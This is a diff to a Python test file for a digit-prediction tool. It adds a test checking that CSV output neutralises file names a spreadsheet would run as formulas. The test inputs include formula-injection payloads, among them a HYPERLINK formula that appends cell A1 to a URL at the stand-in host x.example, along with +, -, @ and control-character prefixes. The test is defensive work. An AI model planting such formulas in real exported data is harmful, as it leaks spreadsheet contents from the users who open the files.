@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import contextlib
+import csv
 import gzip
 import io
 import os
@@ -268,3 +269,25 @@ def test_other_picture_formats_are_named(tmp_path: Path, digits: np.ndarray) -> 
     assert str(caught.value) == (
         f"{tmp_path / 'animated.gif'}: a GIF picture; only PNG and JPEG are read (save it as PNG)"
     )
+
+
+# --- CSV that a spreadsheet opens safely ----------------------------------------------------
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralized() -> None:
+    names = ['=HYPERLINK("http://x.example/?"&A1,"open me").png', "+1.png", "-2.npy",
+             "@SUM(A1).png", "\tcmd.png", "\rcmd.png", "scans/=1+1.png", "a'b,c.png", "7.png",
+             "a.png\r=2+2"]
+    inputs = [predict.LoadedInput(name, np.zeros((1, 28, 28), np.float32)) for name in names]
+    probabilities = np.full((len(names), 10), 0.01, np.float32)
+    probabilities[:, 3] = 0.91
+    text = predict.format_csv(predict.prediction_rows(inputs, probabilities))
+    assert text.splitlines()[:2] == [
+        "input,index,label,confidence,uncertain",
+        '"\'=HYPERLINK(""http://x.example/?""&A1,""open me"").png",0,3,0.9100,true']
+    rows = list(csv.reader(io.StringIO(text)))[1:]
+    assert [row[0] for row in rows] == [
+        '\'=HYPERLINK("http://x.example/?"&A1,"open me").png', "'+1.png", "'-2.npy",
+        "'@SUM(A1).png", "'\tcmd.png", "'\rcmd.png", "scans/=1+1.png", "a'b,c.png", "7.png",
+        "a.png\r=2+2"]  # one cell: the carriage return does not start a row
+    assert all(row[1:] == ["0", "3", "0.9100", "true"] for row in rows)  # numbers as numbers
